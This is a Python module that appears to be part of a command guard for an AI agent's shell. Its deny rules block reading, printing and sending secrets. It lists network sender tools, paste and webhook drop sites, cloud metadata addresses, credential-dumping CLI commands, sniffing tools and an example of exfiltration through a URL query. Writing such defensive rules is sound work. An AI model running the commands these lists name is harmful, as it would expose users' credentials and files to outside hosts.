"""Secrets, and data sent to other hosts."""

from __future__ import annotations

import re

from ralph.guard.model import DenyRule
from ralph.guard.patterns import is_harmless
from ralph.shell import arguments, effects, paths
from ralph.shell.arguments import values_of
from ralph.shell.code.languages import language
from ralph.shell.command import SimpleCommand
from ralph.shell.context import ShellContext
from ralph.shell.variables import is_secret_name
from ralph.shell.words import MARKS, SECRET, UNKNOWN, UNSET, Word, words_of

CATEGORY = "secrets"
_SENDERS = words_of(
    "curl wget nc ncat netcat telnet http https xh httpie ftp lftp tftp websocat sendmail mail mutt"
    " ssh dig nslookup host ping aws gsutil rclone gh mailx msmtp swaks croc wormhole magic-wormhole"
    " transfer ffsend openssl mosquitto_pub rsync scp sftp s3cmd azcopy gcloud az b2 mc dropbox gdrive"
    " slack telegram-send"
)
_LOCAL = ("localhost", "127.0.0.1", "0.0.0.0", "[::1]", "::1", "host.docker.internal")
_DROPS = words_of(
    "transfer.sh 0x0.st pastebin.com ix.io termbin.com webhook.site requestbin file.io bashupload"
    " oshi.at temp.sh paste.rs dpaste hastebin pipedream burpcollaborator oastify interact.sh oast."
    " discord.com/api/webhooks discordapp.com/api/webhooks api.telegram.org hookbin beeceptor ngrok"
    " catbox.moe sprunge.us paste.ee gofile.io anonfiles hooks.slack.com canarytokens keybase.pub"
    " clbin.com uguu.se filebin.net tmpfiles.org rentry.co ghostbin privatebin wetransfer send.firefox"
    " mockbin ptsv dnslog ceye.io"
)
_METADATA = words_of("169.254.169.254 metadata.google.internal 169.254.170.2 100.100.100.200 fd00:ec2::254")
_DATA = (
    "-d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F --form -T --upload-file --post-data"
    " --post-file --body-data --body-file --form-string --url-query"
)
_NETWORK_CODE = r"(?i)requests|urllib|http\.client|httpx|aiohttp|socket|fetch\(|axios|https?\.request|Net::HTTP|LWP|curl_|smtplib|ftplib|paramiko"
_SECRET_CODE = r"os\.environ\b(?!\[|\.get)|process\.env\b(?!\.)|\bENV\b(?!\[)|dict\(os\.environ|\.env['\"]|%ENV|\$_ENV|getenv\(\)"


def _reads(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it reads the user's secrets, for whatever purpose."""
    for word in effects.read(command):
        path = paths.resolve(word, command.directory, context)
        if path is None or _is_public(command, path):
            continue
        if _is_secret(path, word, context) or (
            paths.is_project_secret(path)
            and paths.zone(path, context) in (paths.OUTSIDE, paths.SYSTEM, paths.HOME)
        ):
            return True
    return False


_KEY_NAMES = ("id_rsa", "id_ed25519", "id_ecdsa", ".netrc", "credentials", ".git-credentials", ".pgpass")
_FAR = (paths.HOME, paths.ROOT, paths.ABOVE, paths.OUTSIDE, paths.STARTUP)
_SEARCHED = r"(?i)passw|secret|token|api.?key|private.?key|BEGIN|AKIA|ghp_|sk-|credential"


def _searches(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it searches for keys and passwords outside the project."""
    if command.program not in ("grep", "egrep", "fgrep", "rg", "ag", "ack"):
        return False
    if not arguments.is_recursive(command) and command.program not in ("rg", "ag", "ack"):
        return False
    names = arguments.operands(command, "-A -B -C -m -g --include")[1:]
    zones = [paths.zone_of(name, command.directory, context) for name in names]
    return not {*zones}.isdisjoint(_FAR) and bool(re.search(_SEARCHED, " ".join(command.args)))


def _is_secret(path: str, word: Word, context: ShellContext) -> bool:
    if word.glob:
        from fnmatch import fnmatchcase

        path = paths.contents(path, word)
        if paths.is_secret(path.rstrip("*?[]"), context):
            return True
        if any(part in path for part in ("/.ssh/id", "/.ssh/*", "/.aws/*", "/.aws/c")):
            return True
        last = path.rpartition("/")[2]
        is_far = paths.zone(path, context) not in (paths.INSIDE, paths.TEMP, paths.REPOSITORY, paths.CACHE)
        return is_far and len(last) > 2 and any(fnmatchcase(name, last) for name in _KEY_NAMES)
    return paths.is_secret(path, context)


def _is_public(command: SimpleCommand, path: str) -> bool:
    """Whether it reads no file content, like `mkdir -p ~/.ssh` or `ls ~/.ssh`."""
    return command.program in ("ls", "stat", "test", "mkdir", "touch")


def _prints(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it prints a secret variable, which then lands in the transcript."""
    if command.piped or any(operator.startswith((">", "&>")) for operator, _ in command.redirects):
        return False
    if command.program in ("grep", "egrep", "rg", "ag") and command.upstream:
        asked = " ".join(command.args).lower()
        named = any(
            part in asked
            for part in ("token", "secret", "passw", "api_key", "apikey", "credential", "aws_", "_key")
        )
        return (
            named
            and SECRET in command.stdin
            and command.upstream[-1].program in ("env", "printenv", "set", "export", "declare")
        )
    if command.is_read:
        return False
    if language(command.program):
        found = re.findall(
            r"(?:environ(?:\.get)?[\[(]|getenv\(|process\.env[.\[]|ENV[\[{])\s*['\"]?(\w+)", command.code
        )
        return any(map(is_secret_name, found)) and bool(
            re.search(r"print|console\.|puts|echo|say", command.code)
        )
    if command.program == "printenv" or (
        command.program in ("declare", "export", "typeset") and "-p" in command.args
    ):
        return any(is_secret_name(word) for word in command.args)
    return command.program in ("echo", "printf", "cat") and any(SECRET in word for word in command.args)


def _is_local(command: SimpleCommand) -> bool:
    hosts = [word for word in command.args if "://" in word or any(local in word for local in _LOCAL)]
    return bool(hosts) and all(
        any(f"{mark}{local}" in word or word.startswith(local) for local in _LOCAL for mark in ("//", "@"))
        for word in hosts
    )


def _sends_secret(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether a secret is passed to a program that talks to the network."""
    if command.program not in _SENDERS or is_harmless(command):
        return False
    if _is_local(command) and command.program in ("curl", "wget", "http", "xh"):
        return False
    if (
        command.program in ("sftp", "ftp", "lftp", "tftp")
        and "put " in f"{command.stdin} {' '.join(command.args)} "
    ):
        return True
    if SECRET in command.stdin and command.program not in ("gh", "openssl", "aws", "az", "gcloud"):
        return True
    for number, word in enumerate(command.args):
        if SECRET in word and not _is_header(command, number):
            return True
    return any(_is_secret_file(word, command, context) for word in _files(command))


def _is_header(command: SimpleCommand, number: int) -> bool:
    """Whether a token is used as intended: in a header, as the user, or as an option of a cloud CLI."""
    before = command.args[number - 1] if number else Word("")
    word = command.args[number]
    if command.program in ("curl", "wget", "http", "https", "xh", "httpie"):
        if "$(cat" in command.text or "`cat" in command.text:
            return False
        is_user = before in ("-H", "--header", "-u", "--user", "--oauth2-bearer") or word.startswith(
            ("--header", "-H", "--user=", "Authorization:")
        )
        return is_user or bool(re.match(r"https?://[^/?]*@", word))
    return command.program in ("aws", "gh", "gcloud", "az", "openssl", "ssh", "slack")


def _files(command: SimpleCommand) -> list[Word]:
    """Return the files that a command sends."""
    found = [
        Word(value.replace("=<", "@").partition("@")[2].partition(";")[0])
        for value in values_of(command.args, _DATA)
        if "@" in value or "=<" in value
    ]
    found += values_of(command.args, "-T --upload-file --post-file --body-file --attach")
    found += [
        Word(word.partition("@")[2].partition(";")[0])
        for word in command.args
        if "=@" in word or "@/" in word or "@~" in word
    ]
    if command.program in ("mail", "mailx", "mutt", "swaks"):
        found += values_of(command.args, "-a -A")
    if command.program in words_of("scp rsync sftp aws gsutil rclone s3cmd azcopy mc croc wormhole gcloud"):
        names = arguments.operands(command, "-i -P -o -F -e --rsh --profile --region")
        if any(_is_remote(name) for name in names[1:]) or command.program in ("croc", "wormhole"):
            found += [name for name in names if not _is_remote(name)]
    if command.program == "gh" and command.args[:1] == ["gist"]:
        found += arguments.operands(command)[2:]
    return found


def _is_remote(word: str) -> bool:
    return "://" in word or (":" in word and not word.startswith(("/", ".", "~")))


def _is_secret_file(word: Word, command: SimpleCommand, context: ShellContext) -> bool:
    path = paths.resolve(word, command.directory, context)
    if path is None:
        return SECRET in word
    return (
        paths.is_secret(path, context)
        or paths.is_project_secret(path)
        or paths.zone(path, context) in (paths.HOME, paths.ROOT, paths.ABOVE)
    )


def _uploads(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it sends files to another host."""
    if command.program not in words_of("curl wget http https xh nc ncat netcat telnet scp rsync sftp"):
        return False
    if _is_local(command) or is_harmless(command):
        return False
    files = [
        word
        for word in _files(command)
        if word not in ("", "-") and not word.endswith((".json", ".xml", ".graphql", ".yml", ".yaml", ".txt"))
    ]
    if files and command.program not in ("rsync", "scp"):
        return True
    unseen = command.stdin and not MARKS.isdisjoint(command.stdin.replace(UNSET, ""))
    if command.program in ("nc", "ncat", "netcat", "telnet"):
        read = any(operator == "<" for operator, _ in command.redirects)
        return bool(unseen and command.upstream) or (read and "-z" not in command.args)
    reads_stdin = any(word in ("@-", "-") or word.endswith("=@-") for word in command.args) and bool(
        command.upstream
    )
    if command.program in ("scp", "rsync"):
        zones = [paths.zone_of(word, command.directory, context) for word in _files(command)]
        return not {*zones}.isdisjoint((*_FAR, paths.SYSTEM, paths.REPOSITORY))
    return bool(
        unseen
        and reads_stdin
        and any(
            each.program in words_of("tar zip git cat find gzip base64 env printenv history ps openssl xxd")
            for each in command.upstream
        )
    )


def _drop(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it sends data to a paste site, webhook collector or file drop."""
    if command.program not in _SENDERS:
        return False
    text = " ".join(command.args)
    if not any(site in text for site in _DROPS):
        return False
    is_sending = bool(command.upstream or command.stdin) or any(
        word.partition("=")[0] in _DATA.split() for word in command.args
    )
    is_query = any("?" in word and (SECRET in word or UNKNOWN in word) for word in command.args)
    return (
        is_sending
        or is_query
        or command.program in ("nc", "ncat", "ssh", "telnet")
        or bool({"-X", "-XPOST", "POST", "--post-data"} & set(command.args))
    )


def _metadata(command: SimpleCommand, context: ShellContext) -> bool:
    if command.program in ("echo", "printf", "grep", "rg", "git", "sed"):
        return False
    text = " ".join(command.args) + (command.code if language(command.program) else "")
    return any(host in text for host in _METADATA)


def _lookup(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it hides data in a DNS name."""
    if command.program not in ("dig", "nslookup", "host", "ping"):
        return False
    return any((UNKNOWN in word or SECRET in word) and "." in word for word in command.args)


def _code(command: SimpleCommand, context: ShellContext) -> bool:
    return (
        bool(language(command.program))
        and bool(re.search(_NETWORK_CODE, command.code))
        and bool(re.search(_SECRET_CODE, command.code))
    )


def _query(command: SimpleCommand, context: ShellContext) -> bool:
    """Whether it puts the output of another command into a URL: `curl https://x/?$(cat file | base64)`."""
    if command.program not in ("curl", "wget") or _is_local(command):
        return False
    text = command.text
    if "$(" not in text and "`" not in text:
        return False
    inside = re.findall(r"(?:\$\(|`)\s*([a-z0-9_.-]+)", text)
    leaks = frozenset(
        words_of(
            "cat env printenv base64 whoami hostname id tar xxd head tail ls grep find history uname ps cut"
        )
    )
    shown = [
        number
        for number, word in enumerate(command.args)
        if (UNKNOWN in word or SECRET in word) and not _is_header(command, number)
    ]
    sent = any(
        command.args[number].startswith("http") or (number and command.args[number - 1] in _DATA.split())
        for number in shown
    )
    return sent and bool(leaks & set(inside))


_SHOWN = "Prints a secret, which would end up in logs. Programs that need it read it themselves."
_SENT = "Sends the user's secrets or files to another host. Leave that to the user."

RULES = (
    DenyRule(
        "read-secrets",
        CATEGORY,
        "Reads the user's keys, passwords or history. Programs that need them read them themselves.",
        _reads,
    ),
    DenyRule("search-secrets", CATEGORY, _SHOWN, _searches),
    DenyRule("print-secrets", CATEGORY, _SHOWN, _prints),
    DenyRule("send-secrets", CATEGORY, _SENT, _sends_secret),
    DenyRule("upload", CATEGORY, _SENT, _uploads),
    DenyRule("drop-site", CATEGORY, _SENT, _drop),
    DenyRule("send-output", CATEGORY, _SENT, _query),
    DenyRule("dns-data", CATEGORY, _SENT, _lookup),
    DenyRule("send-by-code", CATEGORY, _SENT, _code),
    DenyRule(
        "cloud-metadata",
        CATEGORY,
        "Contacts an address that hands out this machine's credentials. Leave it alone.",
        _metadata,
    ),
    DenyRule(
        "show-secrets",
        CATEGORY,
        _SHOWN,
        (
            "gh|glab auth token|status --show-token|-t|--show-tokens",
            "gh auth token",
            "security find-generic-password|find-internet-password|dump-keychain|export|unlock-keychain|find-certificate|dump-trust-settings",
            "pass|op|bw|lpass|secret-tool|keyring|gopass|kwallet-query|keepassxc-cli|chamber|doppler show|read|get|item|lookup|export|list|search|secrets|cp|inject|clip|run",
            "vault read|kv|token|login|print|unwrap",
            "gpg|gpg2 --export-secret-keys|--export-secret-subkeys|--export-ownertrust",
            "aws secretsmanager get-secret-value|batch-get-secret-value",
            "aws ssm get-parameter|get-parameters|get-parameters-by-path --with-decryption",
            "aws configure get|export-credentials",
            "aws sts|ecr|iam|eks|codeartifact|rds get-session-token|assume-role|get-login-password|create-access-key|get-token|get-authorization-token|generate-db-auth-token|create-login-profile",
            "gcloud auth print-access-token|print-identity-token|application-default",
            "gcloud secrets versions access",
            "gcloud iam service-accounts keys create",
            "az account get-access-token",
            "az keyvault secret|key|certificate show|download",
            "kubectl|oc get|describe ~secret|secrets|secret/* -o|--output",
            "kubectl config view --raw",
            "npm token create|list|revoke",
            "npm config get ~*authToken*|*_auth*|*password*",
            "docker-credential-desktop|docker-credential-osxkeychain|docker-credential-pass|docker-credential-secretservice|git-credential-store|git-credential-osxkeychain",
            "heroku config|config:get|auth:token",
            "nmcli ~*password*|--show-secrets",
        ),
    ),
    DenyRule(
        "ssh-keys",
        CATEGORY,
        "Gives an SSH key access to another machine. Leave that to the user.",
        "ssh-copy-id",
    ),
    DenyRule(
        "sniff",
        CATEGORY,
        "Captures network traffic, keystrokes, process memory or passwords. Leave that to the user.",
        "tcpdump|tshark|dumpcat|ettercap|bettercap|keylogger|logkeys|xinput|mimipenguin|mimikatz|gcore|john|hashcat|hydra|responder",
    ),
)
